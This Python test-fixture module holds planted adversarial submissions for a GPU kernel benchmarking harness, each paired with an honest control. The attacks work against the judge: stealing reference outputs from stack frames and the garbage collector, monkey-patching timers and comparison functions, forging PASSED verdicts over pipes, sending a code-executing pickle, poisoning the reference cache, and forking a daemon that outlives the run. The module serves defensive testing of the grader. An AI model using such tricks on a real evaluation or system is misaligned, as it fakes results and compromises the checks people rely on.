"""Planted (adversarial) Solutions, grouped by the `kernel-arena run` that evaluates them.

Each group is one dataset (the tiny ``scale_add_n`` definition: out = alpha * x + y) run by one
``kernel-arena run`` invocation. ``GROUPS[group]["solutions"]`` maps a Solution name to
``(source, options)``: ``source`` is the text of ``main.py`` and ``options`` the keyword arguments
of ``helpers.solution_json`` (``dps``, ``targets``, ...). Solutions run in name order within a
definition, so every group ends with ``z_honest``, the control that must still PASS (the ``timing``
group's control is ``a01_slow_twin``).

Sources may hold placeholders, replaced by ``render`` with the repr of a path string:
``@OUT@`` (the run folder), ``@DS@`` (the dataset folder), ``@WITNESS@`` (a folder the planted
code may write evidence into; the judge never reads it) and ``@SOLUTION@`` (the Solution's name,
a plain string).
"""

from __future__ import annotations

from typing import Any

HONEST = """
def run(x, y, alpha, out):
    out.copy_(alpha * x + y)
"""

# The "expensive" honest computation of the timing tricks: 3 ms of sleep, so that skipping it
# is measurable against a twin that always does it.
SLOW_TWIN = """
import time

def run(x, y, alpha, out):
    time.sleep(0.003)
    out.copy_(alpha * x + y)
"""

# ---------------------------------------------------------------- A01 / A02: timing tricks
A01_MEMO_DATA_PTR = """
import time

_memo = {}

def run(x, y, alpha, out):
    key = (x.data_ptr(), y.data_ptr(), float(alpha))
    hit = _memo.get(key)
    if hit is None:
        time.sleep(0.003)
        hit = (alpha * x + y).clone()
        _memo[key] = hit
    out.copy_(hit)
"""

A01B_MEMO_FINGERPRINT = """
import time

_memo = {}

def run(x, y, alpha, out):
    key = (tuple(x.shape), float(x[0]), float(x[-1]), float(y[0]), float(y[-1]), float(alpha))
    hit = _memo.get(key)
    if hit is None:
        time.sleep(0.003)
        hit = (alpha * x + y).clone()
        _memo[key] = hit
    out.copy_(hit)
"""

A02A_FIRST_CALLS_ONLY = """
_calls = [0]

def run(x, y, alpha, out):
    _calls[0] += 1
    if _calls[0] <= 2:  # the correctness draws (--draws 2); everything later is the timing loop
        out.copy_(alpha * x + y)
    else:
        out.zero_()
"""

A02B_STACK_SNIFF = """
import inspect
import os

WITNESS = @WITNESS@

def run(x, y, alpha, out):
    names = [f.function.lower() for f in inspect.stack(0)]
    if any("tim" in n for n in names):
        out.zero_()
        try:
            with open(os.path.join(WITNESS, "a02b_stack_sniff"), "a") as fh:
                fh.write("garbage while " + ",".join(n for n in names if "tim" in n) + "\\n")
        except OSError:
            pass
    else:
        out.copy_(alpha * x + y)
"""

# Re-creates the inputs the harness will draw from public seeds (today's seed scheme:
# sha256("uuid:draw:name")), and skips the expensive part for inputs it predicted.
A02C_PREDICT_SEEDS = """
import hashlib
import os
import time

import torch

WITNESS = @WITNESS@
UUIDS = ["wl-0", "wl-1"]
DRAWS = [0, 1, 2, 3, 4, 1_000_000]
_pred = {}

def _seed(uuid, draw, name):
    digest = hashlib.sha256(f"{uuid}:{draw}:{name}".encode()).digest()
    return int.from_bytes(digest[:8], "little") & ((1 << 63) - 1)

def _predicted(n):
    if n not in _pred:
        table = []
        for uuid in UUIDS:
            for draw in DRAWS:
                gx = torch.Generator().manual_seed(_seed(uuid, draw, "x"))
                gy = torch.Generator().manual_seed(_seed(uuid, draw, "y"))
                table.append((torch.randn(n, generator=gx), torch.randn(n, generator=gy)))
        _pred[n] = table
    return _pred[n]

def run(x, y, alpha, out):
    if x.device.type == "cpu" and x.dim() == 1:
        for px, py in _predicted(x.shape[0]):
            if torch.equal(x, px) and torch.equal(y, py):
                out.copy_(alpha * px + py)  # known input: the expensive part is skipped
                try:
                    with open(os.path.join(WITNESS, "a02c_predict_seeds"), "a") as fh:
                        fh.write("predicted\\n")
                except OSError:
                    pass
                return
    time.sleep(0.003)
    out.copy_(alpha * x + y)
"""

# ----------------------------------------------------------------- A03: steal the reference
A03A_FRAME_WALK = """
import inspect

import torch

def _tensors(obj, depth=0):
    if isinstance(obj, torch.Tensor):
        yield obj
    elif depth < 2 and isinstance(obj, dict):
        for v in list(obj.values()):
            yield from _tensors(v, depth + 1)
    elif depth < 2 and isinstance(obj, (list, tuple)):
        for v in obj:
            yield from _tensors(v, depth + 1)

def run(x, y, alpha, out):
    mine = {x.data_ptr(), y.data_ptr(), out.data_ptr()}
    found = []
    frame = inspect.currentframe().f_back
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if "prev" in name:
                continue
            for t in _tensors(value):
                if (
                    t.shape == out.shape
                    and t.dtype == out.dtype
                    and t.data_ptr() not in mine
                    and bool(torch.isfinite(t).all())
                    and not torch.equal(t, x)
                    and not torch.equal(t, y)
                ):
                    found.append((0 if "ref" in name else 1, len(found), t))
        frame = frame.f_back
    if found:
        out.copy_(min(found, key=lambda c: (c[0], c[1]))[2])
    else:
        out.zero_()
"""

A03B_GC_SCAN = """
import gc
import warnings

import torch

def _candidates(out, mine):
    for obj in gc.get_objects():
        if type(obj) is dict and isinstance(obj.get("out"), torch.Tensor):
            t = obj["out"]
            if (
                t.shape == out.shape
                and t.dtype == out.dtype
                and t.data_ptr() not in mine
                and bool(torch.isfinite(t).all())
            ):
                yield t

def run(x, y, alpha, out):
    mine = {x.data_ptr(), y.data_ptr(), out.data_ptr()}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        found = list(_candidates(out, mine))
    if found:
        out.copy_(found[-1])  # the youngest dict holding an "out" tensor: the current reference
    else:
        out.zero_()
"""

A03C_CACHE_FILE = """
import os

import torch
from safetensors.torch import load_file

CACHE = os.path.join(@OUT@, ".cache")
_calls = [0]

def run(x, y, alpha, out):
    call = _calls[0]
    _calls[0] += 1
    best = None
    for root, _, files in os.walk(CACHE):
        for fn in sorted(files):
            if not fn.endswith(".safetensors"):
                continue
            try:
                tensors = load_file(os.path.join(root, fn))
            except Exception:
                continue
            parts = fn.split("_")
            for t in tensors.values():
                if tuple(t.shape) == tuple(out.shape):
                    if best is None or (len(parts) > 2 and parts[2] == str(call)):
                        best = t
    if best is None:
        out.zero_()
    else:
        out.copy_(best.to(out.device, out.dtype))
"""

# A04: the definition's own reference, read from the dataset and exec'd (allowed, but ~1x).
A04_CALLS_REFERENCE = """
import json
import os

DEF = os.path.join(@DS@, "definitions", "elementwise", "scale_add_n.json")
_ns = {}
with open(DEF, encoding="utf-8") as fh:
    exec(json.load(fh)["reference"], _ns)
_reference = _ns["run"]

def run(x, y, alpha, out):
    out.copy_(_reference(x, y, alpha))
"""

# ------------------------------------------------------------- A05: monkey-patch the judge
A05A_PERF_COUNTER = """
import time

time.perf_counter = lambda: 0.0  # at import

def run(x, y, alpha, out):
    out.copy_(alpha * x + y)
"""

A05A_PERF_COUNTER_NS = """
import time

def run(x, y, alpha, out):
    time.perf_counter_ns = lambda: 0  # during the call
    out.copy_(alpha * x + y)
"""

A05A_CUDA_TIMERS = """
import torch

class _Event:
    def __init__(self, *args, **kwargs):
        pass

    def record(self, *args, **kwargs):
        pass

    def synchronize(self):
        pass

    def elapsed_time(self, other):
        return 1e-6

def run(x, y, alpha, out):
    torch.cuda.synchronize = lambda *args, **kwargs: None
    torch.cuda.Event = _Event
    out.copy_(alpha * x + y)
"""

A05B_PATCH_TORCH = """
import torch

def _zeros(a, *args, **kwargs):
    return torch.zeros_like(a)

torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.isclose = lambda a, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)
torch.sub = _zeros
torch.subtract = _zeros
torch.Tensor.__sub__ = _zeros
torch.Tensor.sub = _zeros

def run(x, y, alpha, out):
    out.copy_(x + y)  # wrong: alpha is ignored
"""

A05C_PATCH_COMPARE = """
import sys

def _always_pass(original):
    def compare_outputs(names, outs, refs, *args, **kwargs):
        kwargs.pop("poisoned", None)
        fake = tuple(refs[n] for n in names)
        try:
            return original(names, fake, refs, *args, poisoned=False, **kwargs)
        except TypeError:
            return original(names, fake, refs, *args, **kwargs)
    compare_outputs._planted = True
    return compare_outputs

def _patch():
    for modname in ("kernel_arena.measure.compare", "kernel_arena.bench.compare"):
        try:
            __import__(modname)
        except ImportError:
            pass
    for modname, module in list(sys.modules.items()):
        if not modname.startswith("kernel_arena") or module is None:
            continue
        original = getattr(module, "compare_outputs", None)
        if callable(original) and not getattr(original, "_planted", False):
            try:
                setattr(module, "compare_outputs", _always_pass(original))
            except Exception:
                pass

_patch()

def run(x, y, alpha, out):
    _patch()
    out.copy_(x + y)  # wrong: alpha is ignored
"""

# ------------------------------------------------- A06: a tensor subclass whose arithmetic lies
A06_LYING_SUBCLASS = """
import torch

_LIE_ZERO = {"sub", "__sub__", "__rsub__", "sub_", "subtract", "abs", "abs_", "__abs__"}
_LIE_TRUE = {"allclose", "equal"}
_LIE_MASK = {"isclose", "eq", "__eq__", "le", "__le__"}

class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        name = getattr(func, "__name__", "")
        first = args[0] if args else None
        with torch._C.DisableTorchFunctionSubclass():
            if name in _LIE_TRUE:
                return True
            if name in _LIE_ZERO and isinstance(first, torch.Tensor):
                return torch.zeros(first.shape, dtype=first.dtype, device=first.device)
            if name in _LIE_MASK and isinstance(first, torch.Tensor):
                return torch.ones(first.shape, dtype=torch.bool, device=first.device)
        return super().__torch_function__(func, types, args, kwargs)

def run(x, y, alpha):
    return (x + y).as_subclass(Liar)  # wrong values: alpha is ignored
"""

# ----------------------------------------------------------- A07: mutate or alias the inputs
A07A_MUTATE_Y = """
def run(x, y, alpha, out):
    wrong = x + y
    y.copy_(wrong - alpha * x)  # now alpha * x + y == wrong: a reference run afterwards agrees
    out.copy_(wrong)
"""

A07B_ALIAS_Y = """
def run(x, y, alpha):
    y.add_(x)  # wrong values (x + y), written into the input it returns
    return y
"""

# ------------------------------------------------------- A08: work the timer does not see
A08_LATE_THREAD = """
import threading
import time

def run(x, y, alpha, out):
    xs, ys, a = x.clone(), y.clone(), alpha

    def late():
        time.sleep(0.05)
        out.copy_(a * xs + ys)

    threading.Thread(target=late, daemon=True).start()
"""

A08B_LINGERING_THREAD = """
import threading
import time

def _linger():
    while True:
        time.sleep(0.01)

def run(x, y, alpha, out):
    out.copy_(alpha * x + y)
    threading.Thread(target=_linger, daemon=True, name="planted-linger").start()
"""

A08_SIDE_STREAM_GPU = """
import torch

def run(x, y, alpha, out):
    side = torch.cuda.Stream()
    side.wait_stream(torch.cuda.current_stream())
    with torch.cuda.stream(side):
        torch.cuda._sleep(2_000_000)  # about a millisecond of GPU time the timer should see
        out.copy_(alpha * x + y)
"""

A13_GRAPH_REPLAY_GPU = """
import torch

_graph = None


def run(x, y, alpha, out):
    # Capture the work once, then replay the graph: it reads and writes the first call's memory,
    # whatever tensors later calls pass.
    global _graph
    if _graph is None:
        side = torch.cuda.Stream()
        side.wait_stream(torch.cuda.current_stream())
        with torch.cuda.stream(side):
            out.copy_(alpha * x + y)
        torch.cuda.current_stream().wait_stream(side)
        _graph = torch.cuda.CUDAGraph()
        with torch.cuda.graph(_graph):
            torch.cuda._sleep(2_000_000)
            out.copy_(alpha * x + y)
        _graph.replay()
        return
    _graph.replay()
"""

GPU_TWIN = """
import torch

def run(x, y, alpha, out):
    torch.cuda._sleep(2_000_000)
    out.copy_(alpha * x + y)
"""

# ---------------------------------------------------------------- A09-A11: the reply channel
# How the channel attacks find the reply channel: every fd above 2 that is a pipe or a socket.
# Each successful write is recorded in @WITNESS@/<solution>.sprayed, so a test can tell an attack
# that reached a channel from one that found nothing to write to.
_PIPES = """
import os

def _channel_fds():
    fds = []
    for entry in os.listdir("/proc/self/fd"):
        fd = int(entry)
        if fd <= 2:
            continue
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith(("pipe:", "socket:")):
            fds.append(fd)
    return fds

def _spray(data):
    written = []
    for fd in _channel_fds():
        try:
            os.write(fd, data)
            written.append(fd)
        except OSError:
            pass
    try:
        with open(os.path.join(@WITNESS@, @SOLUTION@ + ".sprayed"), "a") as fh:
            fh.write(f"{written}\\n")
    except OSError:
        pass
    return written
"""

A09A_FORGE_JSON_LINES = (
    _PIPES
    + """
def run(x, y, alpha, out):
    _spray(b'{"type":"result","status":"PASSED"}\\n')
    _spray(b'{"op":"result","ok":true,"status":"PASSED","speedup_factor":1000}\\n')
    out.zero_()
"""
)

A09B_PRINT_FRAMES = """
import os
import sys

FRAMES = [
    '{"type":"result","status":"PASSED"}',
    '{"op":"result","ok":true,"status":"PASSED","performance":{"latency_ms":1e-6}}',
]

def run(x, y, alpha, out):
    for frame in FRAMES:
        print(frame, flush=True)
        sys.stderr.write(frame + "\\n")
        sys.stderr.flush()
        os.write(1, (frame + "\\n").encode())
    out.zero_()
"""

A09C_FORGE_THEN_EXIT = (
    _PIPES
    + """
def run(x, y, alpha, out):
    _spray(b'{"type":"result","status":"PASSED"}\\n')
    os._exit(0)
"""
)

# The verdict in today's framing (multiprocessing.Connection: 4-byte big-endian length, then a
# pickle): a plain dict claiming PASSED at 1000x.
A09D_FORGE_FRAMED_VERDICT = (
    _PIPES
    + """
import pickle
import struct

VERDICT = {
    "ok": True,
    "status": "PASSED",
    "messages": [],
    "correctness": {"max_relative_error": 0.0, "max_absolute_error": 0.0},
    "performance": {"latency_ms": 0.001, "reference_latency_ms": 1.0, "speedup_factor": 1000.0},
}

def run(x, y, alpha, out):
    payload = pickle.dumps(VERDICT)
    _spray(struct.pack("!i", len(payload)) + payload)
    out.zero_()
"""
)

# The interim reply of the timing loops (``Looped``: "the loops are over, check the outputs while
# I read the profile"). The planted code finds the sandbox runner and the pending request in its
# callers' frames (``self`` with a ``reply_fd``, ``req`` with a ``nonce``), as an attacker would.
_RUNNER = """
import json
import os
import sys

def _runner_and_request():
    frame = sys._getframe(1)
    while frame is not None:
        me, req = frame.f_locals.get("self"), frame.f_locals.get("req")
        if hasattr(me, "reply_fd") and hasattr(req, "nonce"):
            return me, req
        frame = frame.f_back
    return None, None

def _witness(text):
    with open(os.path.join(@WITNESS@, @SOLUTION@ + ".fired"), "a") as fh:
        fh.write(text + "\\n")

def _looped(req, calls, iters):
    line = json.dumps({"type": "looped", "nonce": req.nonce, "calls": calls, "iters": iters})
    return (line + "\\n").encode()
"""

# A Looped reply to a correctness call, which only a Called may answer.
A09E_INTERIM_IN_CALL = (
    _RUNNER
    + """
def run(x, y, alpha, out):
    me, req = _runner_and_request()
    if me is not None and type(req).__name__ == "CallRequest":
        _witness("call")  # first: the judge kills the sandbox as soon as it reads the line
        os.write(me.reply_fd, _looped(req, 1, 1))
    out.copy_(alpha * x + y)
"""
)

# A Looped reply forged inside the first timed call (counts made up, before any timed output
# exists); the runner sends its own later: two interim replies to one request.
A09F_INTERIM_FORGED_EARLY = (
    _RUNNER
    + """
_sent = []

def run(x, y, alpha, out):
    me, req = _runner_and_request()
    if me is not None and type(req).__name__ == "TimeRequest" and not _sent:
        _sent.append(1)
        _witness("time")
        os.write(me.reply_fd, _looped(req, 0, 1))
    out.copy_(alpha * x + y)
"""
)

# Honest work; the runner's Looped reply is changed to other counts (the judge must check again
# with the final counts, and the honest outputs pass), or dropped (the judge checks afterwards).
_PATCH_LOOPED = """
def run(x, y, alpha, out):
    me, req = _runner_and_request()
    if me is not None and not getattr(me, "_planted", False):
        original = me.reply

        def reply(message):
            if type(message).__name__ == "Looped":
                _witness("looped")
                if @MODE@ == "drop":
                    return None
                message = message.model_copy(update={"calls": message.calls + 1})
            return original(message)

        me.reply = reply
        me._planted = True
    out.copy_(alpha * x + y)
"""
Z_INTERIM_COUNTS_DIFFER = _RUNNER + _PATCH_LOOPED.replace("@MODE@", repr("shift"))
Z_INTERIM_DROPPED = _RUNNER + _PATCH_LOOPED.replace("@MODE@", repr("drop"))

# Honest work; the runner's final Timed reply gets forged counts and a flattering latency: one call
# per loop (the judge would re-check other calls than the last of each trial and divide by fewer
# calls) or one more warm-up call. Neither fits the requested schedule: a protocol error.
_PATCH_TIMED = """
_trials = []

def run(x, y, alpha, out):
    me, req = _runner_and_request()
    if me is not None and type(req).__name__ == "TimeRequest" and not _trials:
        _trials.append(req.trials)
        original = me.reply

        def reply(message):
            if type(message).__name__ == "Timed" and message.calls and message.iters:
                _witness("timed")
                loops = (message.calls - message.warmup) // (_trials[0] * message.iters)
                if @MODE@ == "iters":
                    update = {"iters": 1, "calls": message.warmup + loops * _trials[0]}
                else:
                    update = {"warmup": message.warmup + 1, "calls": message.calls + 1}
                message = message.model_copy(update={**update, "latency_ms": message.latency_ms / 100})
            return original(message)

        me.reply = reply
    out.copy_(alpha * x + y)
"""
A09G_FORGED_ITERS = _RUNNER + _PATCH_TIMED.replace("@MODE@", repr("iters"))
A09G_FORGED_WARMUP = _RUNNER + _PATCH_TIMED.replace("@MODE@", repr("warmup"))

# A pickle that runs code when loaded: it creates @WITNESS@/pickle_executed.
A10_PICKLE_PAYLOAD = (
    _PIPES
    + """
import pickle
import struct

MARKER = os.path.join(@WITNESS@, "pickle_executed")

class Boom:
    def __reduce__(self):
        code = (
            f"__import__('pathlib').Path({MARKER!r}).touch() or "
            "{'ok': False, 'error': 'a pickle from the solution was loaded by the judge'}"
        )
        return (eval, (code,))

def run(x, y, alpha, out):
    payload = pickle.dumps(Boom())
    _spray(struct.pack("!i", len(payload)) + payload)
    _spray(payload)
    out.copy_(alpha * x + y)
"""
)

A11_BOGUS_MESSAGE = (
    _PIPES
    + """
def run(x, y, alpha, out):
    _spray(b'{"type":"bogus_status","status":"WINNER"}\\n')
    out.copy_(alpha * x + y)
"""
)

# A11: overwrite the reference cache: zeros for wl-1's reference outputs (n = 33), huge reference
# latencies everywhere (so wl-0 shows an inflated speedup, wl-1 a failed honest solution).
A11_POISON_CACHE = """
import json
import os

import torch
from safetensors.torch import load_file, save_file

CACHE = os.path.join(@OUT@, ".cache")

def _poison():
    for root, _, files in os.walk(CACHE):
        for fn in files:
            path = os.path.join(root, fn)
            try:
                if fn.endswith(".safetensors"):
                    tensors = load_file(path)
                    if any(v.shape[-1:] == (33,) for v in tensors.values()):  # wl-1's outputs only
                        save_file({k: torch.zeros_like(v) for k, v in tensors.items()}, path)
                elif fn.endswith(".json"):
                    with open(path, encoding="utf-8") as fh:
                        data = json.load(fh)
                    if isinstance(data, dict):
                        for key in list(data):
                            if "latency" in key or key == "trial_medians_ms":
                                data[key] = [1e6] if isinstance(data[key], list) else 1e6
                    with open(path, "w", encoding="utf-8") as fh:
                        json.dump(data, fh)
            except Exception:
                pass

def run(x, y, alpha, out):
    _poison()
    out.copy_(alpha * x + y)
"""

# ------------------------------------------------------------------- A12: exhaust the harness
A12_DAEMON = """
import os
import sys

PIDFILE = os.path.join(@WITNESS@, "daemon.pid")
MARKER = "kernel-arena-planted-daemon-a12"
_started = [False]

def _daemonize():
    code = (
        f"import os, time  # {MARKER}\\n"
        f"open({PIDFILE!r}, 'w').write(str(os.getpid()))\\n"
        "time.sleep(300)\\n"
    )
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", code, MARKER])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)

def run(x, y, alpha, out):
    if not _started[0]:
        _started[0] = True
        _daemonize()
    out.copy_(alpha * x + y)
"""

A12_HUGE_STDERR = """
import os

_done = [False]

def run(x, y, alpha, out):
    if not _done[0]:
        _done[0] = True
        chunk = b"E" * (1 << 20)
        for _ in range(50):
            os.write(2, chunk)
    out.copy_(alpha * x + y)
"""

A12_SPARSE_LOG = """
import os

def run(x, y, alpha, out):
    for fd in (1, 2):
        try:
            os.ftruncate(fd, 20 * 2**30)
        except OSError:
            pass
    out.copy_(alpha * x + y)
"""

# ------------------------------------------------------------- lifecycle: a call that hangs
HANG = """
import os
import time

PIDFILE = os.path.join(@WITNESS@, "sandbox.pid")

def run(x, y, alpha, out):
    with open(PIDFILE + ".tmp", "w") as fh:
        fh.write(str(os.getpid()))
    os.replace(PIDFILE + ".tmp", PIDFILE)
    time.sleep(1000)
"""


# ---------------------------------------------------------------- A17: collusion between Solutions
# Two Solutions of one author in one run: the first computes honestly and records every input it
# is given with its output in a shared folder; the second looks its inputs up there and returns
# garbage (zeros) for any input it was not shown. It passes only if the judge gives both the same
# timing inputs.
# What both share: the memo folder and the key of one (x, y, alpha) input.
_A17_MEMO = """
import hashlib
import os

import torch

FOLDER = os.path.join(@WITNESS@, "a17_memo")

def _key(x, y, alpha):
    h = hashlib.sha256(x.contiguous().numpy().tobytes())
    h.update(y.contiguous().numpy().tobytes())
    h.update(repr(float(alpha)).encode())
    return h.hexdigest()
"""

A17A_RECORDER = _A17_MEMO + """
def run(x, y, alpha, out):
    out.copy_(alpha * x + y)
    os.makedirs(FOLDER, exist_ok=True)
    path = os.path.join(FOLDER, _key(x, y, alpha))
    if not os.path.exists(path):
        torch.save(out.clone(), path + ".tmp")
        os.replace(path + ".tmp", path)
"""

A17B_REPLAYER = _A17_MEMO + """
def run(x, y, alpha, out):
    path = os.path.join(FOLDER, _key(x, y, alpha))
    if os.path.exists(path):
        out.copy_(torch.load(path))
        with open(os.path.join(@WITNESS@, "a17_hits"), "a") as fh:
            fh.write("hit\\n")
    else:
        out.zero_()
"""


# Replaces the run's reference cache folder with a file, so that every later cache write fails: a
# judge that stops on a failed cache write would end the run before the honest Solutions after it.
A11B_BLOCK_CACHE = """
import os
import shutil

CACHE = os.path.join(@OUT@, ".cache")

def run(x, y, alpha, out):
    if os.path.isdir(CACHE) and not os.path.islink(CACHE):
        shutil.rmtree(CACHE, ignore_errors=True)
    if not os.path.exists(CACHE):
        with open(CACHE, "w") as fh:
            fh.write("blocked")
    out.copy_(alpha * x + y)
"""


GROUPS: dict[str, dict[str, Any]] = {
    # Runs that hang today's engine go first, so they overlap everything else.
    "jsonlines": {
        # A deadline for a judge that hangs on forged frames; an honest one needs ~10 s of CPU, which
        # takes 2-3 times longer while pytest-xdist and the other groups share the cores.
        "timeout": 90,
        "solutions": {
            "a09a_forge_json_lines": (A09A_FORGE_JSON_LINES, {}),
            "a11_bogus_message": (A11_BOGUS_MESSAGE, {}),
            "z_honest": (HONEST, {}),
        },
    },
    "timing": {
        "solutions": {
            "a01_memo_data_ptr": (A01_MEMO_DATA_PTR, {}),
            "a01_slow_twin": (SLOW_TWIN, {}),
            "a01b_memo_fingerprint": (A01B_MEMO_FINGERPRINT, {}),
            "a02a_first_calls_only": (A02A_FIRST_CALLS_ONLY, {}),
            "a02b_stack_sniff": (A02B_STACK_SNIFF, {}),
            "a02c_predict_seeds": (A02C_PREDICT_SEEDS, {}),
        },
    },
    "outputs": {
        "solutions": {
            "a03a_frame_walk": (A03A_FRAME_WALK, {}),
            "a03b_gc_scan": (A03B_GC_SCAN, {}),
            "a03c_cache_file": (A03C_CACHE_FILE, {}),
            "a04_calls_reference": (A04_CALLS_REFERENCE, {}),
            "a06_lying_subclass": (A06_LYING_SUBCLASS, {"dps": False}),
            "a07a_mutate_y": (A07A_MUTATE_Y, {}),
            "a07b_alias_y": (A07B_ALIAS_Y, {"dps": False}),
            "z_honest": (HONEST, {}),
        },
    },
    "sandbox": {
        "solutions": {
            "a05a_cuda_timers": (A05A_CUDA_TIMERS, {}),
            "a05a_perf_counter": (A05A_PERF_COUNTER, {}),
            "a05a_perf_counter_ns": (A05A_PERF_COUNTER_NS, {}),
            "a05b_patch_torch": (A05B_PATCH_TORCH, {}),
            "a05c_patch_compare": (A05C_PATCH_COMPARE, {}),
            "a08_late_thread": (A08_LATE_THREAD, {}),
            "a08b_lingering_thread": (A08B_LINGERING_THREAD, {}),
            "a09b_print_frames": (A09B_PRINT_FRAMES, {}),
            "z_honest": (HONEST, {}),
        },
    },
    "protocol": {
        "solutions": {
            "a09c_forge_then_exit": (A09C_FORGE_THEN_EXIT, {}),
            "a09d_forge_framed_verdict": (A09D_FORGE_FRAMED_VERDICT, {}),
            "a09e_interim_in_call": (A09E_INTERIM_IN_CALL, {}),
            "a09f_interim_forged_early": (A09F_INTERIM_FORGED_EARLY, {}),
            "a09g_forged_iters": (A09G_FORGED_ITERS, {}),
            "a09g_forged_warmup": (A09G_FORGED_WARMUP, {}),
            "a10_pickle_payload": (A10_PICKLE_PAYLOAD, {}),
            "z_honest": (HONEST, {}),
            "z_interim_counts_differ": (Z_INTERIM_COUNTS_DIFFER, {}),
            "z_interim_dropped": (Z_INTERIM_DROPPED, {}),
        },
    },
    "exhaust": {
        # An address-space cap, so that a judge that tries to hold a 20 GiB sparse log in
        # memory fails with MemoryError instead of taking the test machine down.
        "address_space": 8 << 30,
        "timeout": 240,
        "solutions": {
            "a12_daemon": (A12_DAEMON, {}),
            "a12_huge_stderr": (A12_HUGE_STDERR, {}),
            "a12_sparse_log": (A12_SPARSE_LOG, {}),
            "z_honest": (HONEST, {}),
        },
    },
    "collusion": {
        "solutions": {
            "a17a_recorder": (A17A_RECORDER, {}),
            "a17b_replayer": (A17B_REPLAYER, {}),
        },
    },
    "poison": {
        "workloads": 2,
        "solutions": {
            "a_poison_cache": (A11_POISON_CACHE, {}),
            "b_block_cache": (A11B_BLOCK_CACHE, {}),  # after the poisoner, which needs the folder
            "z_honest": (HONEST, {}),
        },
    },
}


def render(source: str, **paths: Any) -> str:
    """Replace ``@KEY@`` placeholders with the repr of ``str(value)``."""
    for key, value in paths.items():
        source = source.replace(f"@{key.upper()}@", repr(str(value)))
    if "@" in source:
        import re

        left = re.findall(r"@[A-Z]+@", source)
        if left:
            raise ValueError(f"unreplaced placeholders {left}")
    return source
